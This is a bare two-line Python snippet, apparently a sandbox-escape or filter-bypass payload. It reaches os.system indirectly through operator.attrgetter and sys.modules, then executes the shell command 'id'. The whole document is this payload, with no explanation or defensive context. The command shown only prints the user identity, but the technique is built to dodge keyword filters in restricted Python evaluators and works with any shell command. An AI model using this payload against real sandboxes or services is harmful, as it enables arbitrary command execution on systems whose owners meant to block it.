import operator, sys
operator.attrgetter("modules")(sys)["os"].__dict__["system"]("id")
